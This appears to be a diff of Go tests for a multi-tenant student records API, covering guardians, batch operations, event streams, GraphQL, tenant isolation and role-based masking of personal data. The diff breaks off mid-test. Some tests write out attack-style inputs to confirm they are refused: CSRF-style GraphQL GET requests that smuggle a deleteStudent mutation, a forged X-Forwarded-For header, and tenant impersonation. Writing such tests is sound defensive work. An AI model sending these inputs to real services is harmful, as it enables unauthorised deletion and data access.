@@ -1,25 +1,52 @@
 package main
 
 import (
+	"bufio"
 	"bytes"
+	"compress/gzip"
+	"context"
+	"encoding/csv"
 	"encoding/json"
+	"errors"
+	"fmt"
+	"image"
+	"image/jpeg"
+	"image/png"
+	"mime/multipart"
 	"net/http"
 	"net/http/httptest"
+	"net/netip"
+	"net/url"
+	"strings"
 	"testing"
+	"time"
 
 	"github.com/gin-gonic/gin"
+	"github.com/one2n/student-api/events"
+	"github.com/one2n/student-api/loadtest"
+	"github.com/one2n/student-api/middleware"
 	"github.com/one2n/student-api/model"
+	"github.com/one2n/student-api/operations"
+	"github.com/one2n/student-api/pii"
 	"github.com/one2n/student-api/service"
+	"github.com/one2n/student-api/storage"
+	"github.com/one2n/student-api/tracing"
 	"github.com/stretchr/testify/assert"
+	"github.com/ugorji/go/codec"
+	"go.opentelemetry.io/otel/sdk/trace/tracetest"
 	"gorm.io/driver/sqlite"
 	"gorm.io/gorm"
 )
 
+// asAdmin lets test requests see personal data unmasked, as though they came
+// through a trusted proxy that authenticated an admin.
+var asAdmin = withRoles(pii.RoleConfig{Default: pii.RoleAdmin})
+
 func setupTestRouter() (*gin.Engine, *service.StudentService) {
 	gin.SetMode(gin.TestMode)
 	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
 	studentService := service.NewStudentService(db)
-	r := setupRouter(studentService)
+	r := setupRouter(studentService, asAdmin)
 	return r, studentService
 }
 
@@ -38,7 +65,7 @@ func TestCreateStudentHandler(t *testing.T) {
 				Name:  "John Doe",
 				Email: "john@doe.com",
 				Age:   20,
-				Grade: "A",
+				Grade: "10",
 			},
 			wantStatus: http.StatusCreated,
 			wantErr:    false,
@@ -49,11 +76,22 @@ func TestCreateStudentHandler(t *testing.T) {
 				Name:  "John Doe",
 				Email: "john@doe.com",
 				Age:   5,
-				Grade: "A",
+				Grade: "10",
 			},
 			wantStatus: http.StatusBadRequest,
 			wantErr:    true,
 		},
+		{
+			name: "duplicate email in another case",
+			payload: model.Student{
+				Name:  "Jane Doe",
+				Email: "John@Doe.com",
+				Age:   20,
+				Grade: "10",
+			},
+			wantStatus: http.StatusConflict,
+			wantErr:    true,
+		},
 	}
 
 	for _, tt := range tests {
@@ -82,12 +120,12 @@ func TestGetAllStudentsHandler(t *testing.T) {
 
 	// Create test students with unique emails
 	students := []*model.Student{
-		{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "A"},
-		{Name: "Jane Smith", Email: "jane@doe.com", Age: 21, Grade: "B"},
+		{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"},
+		{Name: "Jane Smith", Email: "jane@doe.com", Age: 21, Grade: "11"},
 	}
 
 	for _, student := range students {
-		_, err := service.CreateStudent(student)
+		_, err := service.CreateStudent(context.Background(), student)
 		assert.NoError(t, err)
 	}
 
@@ -111,9 +149,9 @@ func TestGetStudentByIDHandler(t *testing.T) {
 		Name:  "John Doe",
 		Email: "john@doe.com",
 		Age:   20,
-		Grade: "A",
+		Grade: "10",
 	}
-	createdStudent, err := service.CreateStudent(student)
+	createdStudent, err := service.CreateStudent(context.Background(), student)
 	assert.NoError(t, err)
 
 	tests := []struct {
@@ -163,9 +201,9 @@ func TestUpdateStudentHandler(t *testing.T) {
 		Name:  "John Doe",
 		Email: "john@doe.com",
 		Age:   20,
-		Grade: "A",
+		Grade: "10",
 	}
-	createdStudent, err := service.CreateStudent(student)
+	createdStudent, err := service.CreateStudent(context.Background(), student)
 	assert.NoError(t, err)
 
 	tests := []struct {
@@ -182,7 +220,7 @@ func TestUpdateStudentHandler(t *testing.T) {
 				Name:  "John Updated",
 				Email: "john.updated@doe.com",
 				Age:   21,
-				Grade: "A+",
+				Grade: "12",
 			},
 			wantStatus: http.StatusOK,
 			wantErr:    false,
@@ -194,7 +232,7 @@ func TestUpdateStudentHandler(t *testing.T) {
 				Name:  "John Updated",
 				Email: "john.updated@doe.com",
 				Age:   21,
-				Grade: "A+",
+				Grade: "12",
 			},
 			wantStatus: http.StatusNotFound,
 			wantErr:    true,
@@ -229,9 +267,9 @@ func TestDeleteStudentHandler(t *testing.T) {
 		Name:  "John Doe",
 		Email: "john@doe.com",
 		Age:   20,
-		Grade: "A",
+		Grade: "10",
 	}
-	createdStudent, err := service.CreateStudent(student)
+	createdStudent, err := service.CreateStudent(context.Background(), student)
 	assert.NoError(t, err)
 
 	tests := []struct {
@@ -271,3 +309,1220 @@ func TestDeleteStudentHandler(t *testing.T) {
 		})
 	}
 }
+
+func TestGuardianHandlers(t *testing.T) {
+	r, service := setupTestRouter()
+
+	createdStudent, err := service.CreateStudent(context.Background(), &model.Student{
+		Name:  "John Doe",
+		Email: "john@doe.com",
+		Age:   20,
+		Grade: "10",
+	})
+	assert.NoError(t, err)
+
+	body, _ := json.Marshal(model.StudentGuardian{
+		Relationship: model.RelationshipFather,
+		Guardian:     &model.Guardian{Name: "Jack Doe", Phone: "+1-555-0100"},
+	})
+	req := httptest.NewRequest(http.MethodPost, "/v1/api/students/"+createdStudent.ID+"/guardians", bytes.NewBuffer(body))
+	req.Header.Set("Content-Type", "application/json")
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusCreated, w.Code)
+
+	req = httptest.NewRequest(http.MethodGet, "/v1/api/students/"+createdStudent.ID+"/guardians", nil)
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusOK, w.Code)
+	var response struct {
+		Success bool                    `json:"success"`
+		Data    []model.StudentGuardian `json:"data"`
+	}
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &response))
+	if assert.Len(t, response.Data, 1) {
+		assert.Equal(t, "Jack Doe", response.Data[0].Guardian.Name)
+	}
+
+	body, _ = json.Marshal(model.StudentGuardian{Relationship: "neighbour"})
+	req = httptest.NewRequest(http.MethodPost, "/v1/api/students/"+createdStudent.ID+"/guardians", bytes.NewBuffer(body))
+	req.Header.Set("Content-Type", "application/json")
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusBadRequest, w.Code)
+
+	req = httptest.NewRequest(http.MethodGet, "/v1/api/students/non-existing-id/guardians", nil)
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusNotFound, w.Code)
+}
+
+func TestPromoteStudentsHandler(t *testing.T) {
+	r, service := setupTestRouter()
+
+	_, err := service.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+
+	tests := []struct {
+		name       string
+		path       string
+		payload    string
+		wantStatus int
+	}{
+		{name: "dry run", path: "/v1/api/students:promote", payload: `{"grade": "10th", "dry_run": true}`, wantStatus: http.StatusOK},
+		{name: "promote", path: "/v1/api/students:promote", payload: `{"grade": "Grade 10"}`, wantStatus: http.StatusCreated},
+		{name: "unknown grade", path: "/v1/api/students:promote", payload: `{"grade": "A"}`, wantStatus: http.StatusBadRequest},
+		{name: "unknown action", path: "/v1/api/students:demote", payload: `{"grade": "10"}`, wantStatus: http.StatusNotFound},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(http.MethodPost, tt.path, bytes.NewBufferString(tt.payload))
+			req.Header.Set("Content-Type", "application/json")
+			w := httptest.NewRecorder()
+
+			r.ServeHTTP(w, req)
+
+			assert.Equal(t, tt.wantStatus, w.Code)
+		})
+	}
+}
+
+func TestSearchStudentsHandler(t *testing.T) {
+	r, service := setupTestRouter()
+
+	_, err := service.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+
+	req := httptest.NewRequest(http.MethodGet, "/v1/api/students/search?q=jhon", nil)
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+
+	assert.Equal(t, http.StatusOK, w.Code)
+	var response struct {
+		Data []model.StudentSearchResult `json:"data"`
+	}
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &response))
+	if assert.Len(t, response.Data, 1) {
+		assert.Equal(t, "<mark>John</mark> Doe", response.Data[0].Highlights["name"])
+	}
+
+	req = httptest.NewRequest(http.MethodGet, "/v1/api/students/search", nil)
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusBadRequest, w.Code)
+}
+
+func TestBatchStudentsHandler(t *testing.T) {
+	r, service := setupTestRouter()
+
+	createdStudent, err := service.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+
+	payload := `{
+		"atomic": false,
+		"operations": [
+			{"op": "create", "student": {"name": "Jane Smith", "email": "jane@doe.com", "age": 21, "grade": "11"}},
+			{"op": "create", "student": {"name": "Jane Again", "email": "jane@doe.com", "age": 21, "grade": "11"}},
+			{"op": "delete", "id": "` + createdStudent.ID + `"},
+			{"op": "delete", "id": "non-existing-id"}
+		]
+	}`
+	req := httptest.NewRequest(http.MethodPost, "/v1/api/students:batch", bytes.NewBufferString(payload))
+	req.Header.Set("Content-Type", "application/json")
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+
+	assert.Equal(t, http.StatusOK, w.Code)
+	var response struct {
+		Success bool                `json:"success"`
+		Data    []model.BatchResult `json:"data"`
+	}
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &response))
+	assert.False(t, response.Success)
+	statuses := make([]int, len(response.Data))
+	for i, result := range response.Data {
+		statuses[i] = result.Status
+	}
+	assert.Equal(t, []int{http.StatusCreated, http.StatusConflict, http.StatusOK, http.StatusNotFound}, statuses)
+
+	req = httptest.NewRequest(http.MethodPost, "/v1/api/students:batch", bytes.NewBufferString(`{"operations": [{"op": "upsert"}]}`))
+	req.Header.Set("Content-Type", "application/json")
+	w = httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusBadRequest, w.Code)
+}
+
+func TestCreateStudentIdempotencyKey(t *testing.T) {
+	r, service := setupTestRouter()
+
+	send := func(body string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodPost, "/v1/api/students", bytes.NewBufferString(body))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("Idempotency-Key", "create-john")
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	payload := `{"name": "John Doe", "email": "john@doe.com", "age": 20, "grade": "10"}`
+	first := send(payload)
+	assert.Equal(t, http.StatusCreated, first.Code)
+
+	retry := send(payload)
+	assert.Equal(t, http.StatusCreated, retry.Code)
+	assert.Equal(t, first.Body.String(), retry.Body.String())
+
+	changed := send(`{"name": "John Doe", "email": "john.doe@doe.com", "age": 20, "grade": "10"}`)
+	assert.Equal(t, http.StatusUnprocessableEntity, changed.Code)
+
+	students, err := service.GetAllStudents(context.Background())
+	assert.NoError(t, err)
+	assert.Len(t, students, 1)
+}
+
+func TestStreamStudentsHandler(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	broker := events.NewBroker(10)
+	cfg := service.DefaultConfig()
+	cfg.Publisher = broker
+	studentService := service.NewStudentServiceWithConfig(db, cfg)
+	server := httptest.NewServer(setupRouter(studentService, withEventStream(broker, 50*time.Millisecond)))
+	defer server.Close()
+
+	created, err := studentService.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, server.URL+"/v1/api/students/stream", nil)
+	req.Header.Set("Last-Event-ID", "0")
+	resp, err := http.DefaultClient.Do(req)
+	assert.NoError(t, err)
+	defer resp.Body.Close()
+	assert.Equal(t, "text/event-stream", resp.Header.Get("Content-Type"))
+
+	go func() {
+		for broker.Subscribers() == 0 {
+			time.Sleep(5 * time.Millisecond)
+		}
+		studentService.DeleteStudent(context.Background(), created.ID)
+	}()
+
+	var lines []string
+	scanner := bufio.NewScanner(resp.Body)
+	for scanner.Scan() {
+		lines = append(lines, scanner.Text())
+		if strings.HasPrefix(scanner.Text(), "data:") {
+			break
+		}
+	}
+	assert.Contains(t, lines, "id:2")
+	assert.Contains(t, lines, "event:student.deleted")
+
+	// Resuming from the first event replays the deletion.
+	req, _ = http.NewRequestWithContext(ctx, http.MethodGet, server.URL+"/v1/api/students/stream", nil)
+	req.Header.Set("Last-Event-ID", "1")
+	resumed, err := http.DefaultClient.Do(req)
+	assert.NoError(t, err)
+	defer resumed.Body.Close()
+	reader := bufio.NewReader(resumed.Body)
+	first, _ := reader.ReadString('\n')
+	assert.Equal(t, "id:2\n", first)
+
+	var keepAlive bool
+	for !keepAlive {
+		line, err := reader.ReadString('\n')
+		if err != nil {
+			break
+		}
+		keepAlive = line == ": keep-alive\n"
+	}
+	assert.True(t, keepAlive)
+}
+
+func TestGraphQLHandler(t *testing.T) {
+	r, service := setupTestRouter()
+
+	created, err := service.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+
+	tests := []struct {
+		name       string
+		method     string
+		target     string
+		body       string
+		wantStatus int
+	}{
+		{name: "post", method: http.MethodPost, target: "/graphql", body: `{"query": "{ students { total items { name } } }"}`, wantStatus: http.StatusOK},
+		{name: "get", method: http.MethodGet, target: "/graphql?query=%7Bstudents%7Btotal%7D%7D", wantStatus: http.StatusOK},
+		{name: "missing query", method: http.MethodPost, target: "/graphql", body: `{}`, wantStatus: http.StatusBadRequest},
+		{name: "invalid query", method: http.MethodPost, target: "/graphql", body: `{"query": "{ nope }"}`, wantStatus: http.StatusBadRequest},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.target, bytes.NewBufferString(tt.body))
+			req.Header.Set("Content-Type", "application/json")
+			w := httptest.NewRecorder()
+
+			r.ServeHTTP(w, req)
+
+			assert.Equal(t, tt.wantStatus, w.Code)
+			if tt.wantStatus == http.StatusOK {
+				assert.Contains(t, w.Body.String(), `"total":1`)
+			}
+		})
+	}
+
+	// A cross-site GET carries the session cookie but no CSRF token, so it
+	// must not be able to change anything.
+	for _, target := range []string{
+		"/graphql?query=" + url.QueryEscape(`mutation { deleteStudent(id: "`+created.ID+`") }`),
+		"/graphql?operationName=Remove&query=" + url.QueryEscape(`query List { students { total } } mutation Remove { deleteStudent(id: "`+created.ID+`") }`),
+	} {
+		req := httptest.NewRequest(http.MethodGet, target, nil)
+		req.AddCookie(&http.Cookie{Name: "session", Value: "abc"})
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusMethodNotAllowed, w.Code)
+		assert.Equal(t, http.MethodPost, w.Header().Get("Allow"))
+	}
+	_, err = service.GetStudentByID(context.Background(), created.ID)
+	assert.NoError(t, err, "the student was not deleted")
+
+	req := httptest.NewRequest(http.MethodGet, "/graphql?operationName=List&query="+
+		url.QueryEscape(`query List { students { total } } mutation Remove { deleteStudent(id: "`+created.ID+`") }`), nil)
+	w := httptest.NewRecorder()
+	r.ServeHTTP(w, req)
+	assert.Equal(t, http.StatusOK, w.Code, "queries next to a mutation can still be run")
+}
+
+const testAdminKey = "test-admin-key"
+
+func setupTenantRouter(opts ...routerOption) (*gin.Engine, *service.StudentService, *service.TenantService) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	studentService := service.NewStudentService(db)
+	tenants := service.NewTenantService(db)
+	r := setupRouter(studentService, append(opts, withTenants(tenants, testAdminKey))...)
+	return r, studentService, tenants
+}
+
+func TestTenantAdminHandlers(t *testing.T) {
+	r, _, _ := setupTenantRouter()
+
+	send := func(method, path, token, body string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(method, path, bytes.NewBufferString(body))
+		req.Header.Set("Content-Type", "application/json")
+		if token != "" {
+			req.Header.Set("Authorization", "Bearer "+token)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+	var response struct {
+		Success bool         `json:"success"`
+		Data    model.Tenant `json:"data"`
+	}
+
+	w := send(http.MethodPost, "/v1/admin/tenants", "", `{"name": "North High", "slug": "north-high"}`)
+	assert.Equal(t, http.StatusUnauthorized, w.Code)
+	w = send(http.MethodPost, "/v1/admin/tenants", "wrong", `{"name": "North High", "slug": "north-high"}`)
+	assert.Equal(t, http.StatusUnauthorized, w.Code)
+
+	w = send(http.MethodPost, "/v1/admin/tenants", testAdminKey, `{"name": "North High", "slug": "north-high"}`)
+	assert.Equal(t, http.StatusCreated, w.Code)
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &response))
+	tenant := response.Data
+	assert.NotEmpty(t, tenant.APIKey)
+	assert.NotContains(t, w.Body.String(), "api_key_hash")
+
+	w = send(http.MethodPost, "/v1/admin/tenants", testAdminKey, `{"name": "Copy", "slug": "north-high"}`)
+	assert.Equal(t, http.StatusConflict, w.Code)
+	w = send(http.MethodPost, "/v1/admin/tenants", testAdminKey, `{"name": "Bad", "slug": "Not A Slug"}`)
+	assert.Equal(t, http.StatusBadRequest, w.Code)
+
+	w = send(http.MethodGet, "/v1/admin/tenants", testAdminKey, "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Body.String(), `"slug":"north-high"`)
+	assert.Contains(t, w.Body.String(), `"slug":"default"`)
+
+	w = send(http.MethodGet, "/v1/admin/tenants/"+tenant.ID, testAdminKey, "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.NotContains(t, w.Body.String(), "api_key")
+
+	w = send(http.MethodPost, "/v1/admin/tenants/"+tenant.ID+"/api-key", testAdminKey, "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &response))
+	assert.NotEqual(t, tenant.APIKey, response.Data.APIKey)
+	w = send(http.MethodGet, "/v1/api/students", tenant.APIKey, "")
+	assert.Equal(t, http.StatusUnauthorized, w.Code, "the old key stops working")
+	w = send(http.MethodGet, "/v1/api/students", response.Data.APIKey, "")
+	assert.Equal(t, http.StatusOK, w.Code)
+
+	w = send(http.MethodDelete, "/v1/admin/tenants/"+model.DefaultTenantID, testAdminKey, "")
+	assert.Equal(t, http.StatusBadRequest, w.Code)
+	w = send(http.MethodDelete, "/v1/admin/tenants/"+tenant.ID, testAdminKey, "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	w = send(http.MethodGet, "/v1/admin/tenants/"+tenant.ID, testAdminKey, "")
+	assert.Equal(t, http.StatusNotFound, w.Code)
+}
+
+func TestDebugVars(t *testing.T) {
+	get := func(r *gin.Engine, token string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodGet, "/debug/vars", nil)
+		if token != "" {
+			req.Header.Set("Authorization", "Bearer "+token)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	r, _ := setupTestRouter()
+	assert.Equal(t, http.StatusNotFound, get(r, "").Code, "not served without an admin key")
+
+	r, _, _ = setupTenantRouter()
+	assert.Equal(t, http.StatusUnauthorized, get(r, "").Code)
+	assert.Equal(t, http.StatusUnauthorized, get(r, "wrong").Code)
+	w := get(r, testAdminKey)
+	assert.Equal(t, http.StatusOK, w.Code)
+	assert.Contains(t, w.Body.String(), `"memstats"`)
+}
+
+func TestTenantIsolationHandlers(t *testing.T) {
+	r, _, tenants := setupTenantRouter()
+	north, err := tenants.CreateTenant(context.Background(), &model.Tenant{Name: "North", Slug: "north"})
+	assert.NoError(t, err)
+	south, err := tenants.CreateTenant(context.Background(), &model.Tenant{Name: "South", Slug: "south"})
+	assert.NoError(t, err)
+
+	type credentials struct{ apiKey, tenant string }
+	send := func(as credentials, method, path, body string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(method, path, bytes.NewBufferString(body))
+		req.Header.Set("Content-Type", "application/json")
+		if as.apiKey != "" {
+			req.Header.Set("Authorization", "Bearer "+as.apiKey)
+		}
+		if as.tenant != "" {
+			req.Header.Set("X-Tenant-ID", as.tenant)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+	asNorth := credentials{apiKey: north.APIKey}
+	asSouth := credentials{apiKey: south.APIKey, tenant: "south"}
+	payload := `{"name": "John Doe", "email": "john@doe.com", "age": 20, "grade": "10"}`
+
+	var created struct {
+		Data model.Student `json:"data"`
+	}
+	w := send(asNorth, http.MethodPost, "/v1/api/students", payload)
+	assert.Equal(t, http.StatusCreated, w.Code)
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &created))
+	northID := created.Data.ID
+	w = send(asSouth, http.MethodPost, "/v1/api/students", payload)
+	assert.Equal(t, http.StatusCreated, w.Code, "the same email can enrol at another school")
+	w = send(asNorth, http.MethodPost, "/v1/api/students", payload)
+	assert.Equal(t, http.StatusConflict, w.Code)
+
+	var list struct {
+		Data []model.Student `json:"data"`
+	}
+	w = send(asSouth, http.MethodGet, "/v1/api/students", "")
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &list))
+	assert.Len(t, list.Data, 1)
+	assert.NotEqual(t, northID, list.Data[0].ID)
+	w = send(credentials{}, http.MethodGet, "/v1/api/students", "")
+	assert.NoError(t, json.Unmarshal(w.Body.Bytes(), &list))
+	assert.Empty(t, list.Data, "requests without a tenant act for the default tenant")
+
+	w = send(asSouth, http.MethodGet, "/v1/api/students/"+northID, "")
+	assert.Equal(t, http.StatusNotFound, w.Code)
+	w = send(asSouth, http.MethodDelete, "/v1/api/students/"+northID, "")
+	assert.Equal(t, http.StatusNotFound, w.Code)
+	w = send(asSouth, http.MethodGet, "/v1/api/students/search?q=john", "")
+	assert.NotContains(t, w.Body.String(), northID)
+	w = send(asSouth, http.MethodPost, "/graphql", `{"query": "{ students { total } }"}`)
+	assert.JSONEq(t, `{"data": {"students": {"total": 1}}}`, w.Body.String())
+	w = send(asNorth, http.MethodGet, "/v1/api/students/"+northID, "")
+	assert.Equal(t, http.StatusOK, w.Code)
+
+	// Naming a tenant is not enough to act for it.
+	for _, tenant := range []string{"north", north.ID, "west"} {
+		w = send(credentials{tenant: tenant}, http.MethodGet, "/v1/api/students/"+northID, "")
+		assert.Equal(t, http.StatusUnauthorized, w.Code, tenant)
+		assert.NotContains(t, w.Body.String(), "John Doe")
+		w = send(credentials{tenant: tenant}, http.MethodGet, "/v1/api/students", "")
+		assert.Equal(t, http.StatusUnauthorized, w.Code, tenant)
+	}
+	w = send(credentials{tenant: model.DefaultTenantID}, http.MethodGet, "/v1/api/students", "")
+	assert.Equal(t, http.StatusOK, w.Code)
+	w = send(credentials{apiKey: "sk_unknown"}, http.MethodGet, "/v1/api/students", "")
+	assert.Equal(t, http.StatusUnauthorized, w.Code)
+	w = send(credentials{apiKey: north.APIKey, tenant: south.ID}, http.MethodGet, "/v1/api/students", "")
+	assert.Equal(t, http.StatusForbidden, w.Code)
+}
+
+func TestIdempotencyKeysArePerTenant(t *testing.T) {
+	r, _, tenants := setupTenantRouter()
+	north, err := tenants.CreateTenant(context.Background(), &model.Tenant{Name: "North", Slug: "north"})
+	assert.NoError(t, err)
+
+	send := func(apiKey string) *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodPost, "/v1/api/students",
+			bytes.NewBufferString(`{"name": "John Doe", "email": "john@doe.com", "age": 20, "grade": "10"}`))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set("Idempotency-Key", "create-john")
+		if apiKey != "" {
+			req.Header.Set("Authorization", "Bearer "+apiKey)
+		}
+		w := httptest.NewRecorder()
+		r.ServeHTTP(w, req)
+		return w
+	}
+
+	first := send(north.APIKey)
+	assert.Equal(t, http.StatusCreated, first.Code)
+	other := send("")
+	assert.Equal(t, http.StatusCreated, other.Code)
+	assert.Empty(t, other.Header().Get("Idempotent-Replayed"), "another tenant's response is never replayed")
+	assert.NotEqual(t, first.Body.String(), other.Body.String())
+}
+
+func TestStreamStudentsHandlerFiltersTenants(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	broker := events.NewBroker(10)
+	cfg := service.DefaultConfig()
+	cfg.Publisher = broker
+	studentService := service.NewStudentServiceWithConfig(db, cfg)
+	tenants := service.NewTenantService(db)
+	north, err := tenants.CreateTenant(context.Background(), &model.Tenant{Name: "North", Slug: "north"})
+	assert.NoError(t, err)
+	server := httptest.NewServer(setupRouter(studentService,
+		withEventStream(broker, time.Minute), withTenants(tenants, testAdminKey)))
+	defer server.Close()
+
+	for _, email := range []string{"john@doe.com", "jane@doe.com"} {
+		_, err = studentService.CreateStudent(context.Background(), &model.Student{Name: "Doe", Email: email, Age: 20, Grade: "10"})
+		assert.NoError(t, err)
+	}
+	for _, email := range []string{"nora@north.com", "ned@north.com"} {
+		_, err = studentService.ForTenant(north.ID).CreateStudent(context.Background(), &model.Student{Name: "North", Email: email, Age: 20, Grade: "10"})
+		assert.NoError(t, err)
+	}
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+	req, _ := http.NewRequestWithContext(ctx, http.MethodGet, server.URL+"/v1/api/students/stream", nil)
+	req.Header.Set("Last-Event-ID", "1")
+	req.Header.Set("Authorization", "Bearer "+north.APIKey)
+	resp, err := http.DefaultClient.Do(req)
+	assert.NoError(t, err)
+	defer resp.Body.Close()
+
+	first, _ := bufio.NewReader(resp.Body).ReadString('\n')
+	assert.Equal(t, "id:2\n", first, "north numbers its own events, skipping the default tenant's")
+}
+
+func TestPIIMaskingByRole(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	studentService := service.NewStudentService(db)
+	r := setupRouter(studentService, withRoles(pii.RoleConfig{
+		Default:        pii.RoleStaff,
+		TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")},
+	}))
+
+	created, err := studentService.CreateStudent(context.Background(), &model.Student{Name: "John Doe", Email: "john@doe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+
+	tests := []struct {
+		name         string
+		method       string
+		target       string
+		body         string
+		role         string
+		remoteAddr   string
+		forwardedFor string
+		wantStatus   int
+		want         []string
+		notWant      []string
+	}{
+		{name: "admin", method: http.MethodGet, target: "/v1/api/students/" + created.ID, role: pii.RoleAdmin,
+			remoteAddr: "10.1.2.3:4567",
+			wantStatus: http.StatusOK, want: []string{`"name":"John Doe"`, `"email":"john@doe.com"`}},
+		{name: "admin from an untrusted address", method: http.MethodGet, target: "/v1/api/students/" + created.ID,
+			role: pii.RoleAdmin, wantStatus: http.StatusForbidden, notWant: []string{"john@doe.com"}},
+		{name: "admin behind a forged X-Forwarded-For", method: http.MethodGet, target: "/v1/api/students/" + created.ID,
+			role: pii.RoleAdmin, forwardedFor: "10.1.2.3", wantStatus: http.StatusForbidden},
+		{name: "default role", method: http.MethodGet, target: "/v1/api/students/" + created.ID,
+			wantStatus: http.StatusOK, want: []string{`"name":"John Doe"`, `"email":"j***@doe.com"`}},
+		{name: "viewer list", method: http.MethodGet, target: "/v1/api/students", role: pii.RoleViewer,
+			wantStatus: http.StatusOK, want: []string{`"name":"J*** D***"`, `"email":"j***@doe.com"`}, notWant: []string{"John"}},
+		{name: "viewer graphql", method: http.MethodPost, target: "/graphql", role: pii.RoleViewer,
+			body:       `{"query": "{ students { items { name email } } }"}`,
+			wantStatus: http.StatusOK, want: []string{`"name":"J*** D***"`, `"email":"j***@doe.com"`}},
+		{name: "unknown role", method: http.MethodGet, target: "/v1/api/students", role: "owner",
+			wantStatus: http.StatusBadRequest},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			req := httptest.NewRequest(tt.method, tt.target, bytes.NewBufferString(tt.body))
+			req.Header.Set("Content-Type", "application/json")
+			if tt.role != "" {
+				req.Header.Set(middleware.RoleHeader, tt.role)
+			}
+			if tt.remoteAddr != "" {
+				req.RemoteAddr = tt.remoteAddr
+			}
+			if tt.forwardedFor != "" {
+				req.Header.Set("X-Forwarded-For", tt.forwardedFor)
+			}
+			w := httptest.NewRecorder()
+
+			r.ServeHTTP(w, req)
+
+			assert.Equal(t, tt.wantStatus, w.Code)
+			for _, want := range tt.want {
+				assert.Contains(t, w.Body.String(), want)
+			}
+			for _, notWant := range tt.notWant {
+				assert.NotContains(t, w.Body.String(), notWant)
+			}
+		})
+	}
+}
+
+func TestGDPRHandlers(t *testing.T) {
+	gin.SetMode(gin.TestMode)
+	db, _ := gorm.Open(sqlite.Open(":memory:"), &gorm.Config{})
+	broker := events.NewBroker(10)
+	serviceConfig := service.DefaultConfig()
+	serviceConfig.Publisher = broker
+	studentService := service.NewStudentServiceWithConfig(db, serviceConfig)
+	r := setupRouter(studentService, asAdmin,
+		withIdempotency(middleware.NewMemoryIdempotencyStore(), time.Hour),
+		withEventStream(broker, time.Minute))
+
+	_, err := studentService.CreateStudent(context.Background(), &model.Student{Name: "Jane Roe", Email: "jane@roe.com", Age: 20, Grade: "10"})
+	assert.NoError(t, err)
+	// The student is created with an Idempotency-Key, so the response
+	// holding their data is stored for retries.
+	create := func() *httptest.ResponseRecorder {
+		req := httptest.NewRequest(http.MethodPost, "/v1/api/students",
+			bytes.NewBufferString(`{"name": "John Doe", "email": "john@doe.com", "age": 20, "grade": "10"}`))
+		req.Header.Set("Content-Type", "application/json")
+		req.Header.Set(middleware.IdempotencyKeyHeader, "create-john")
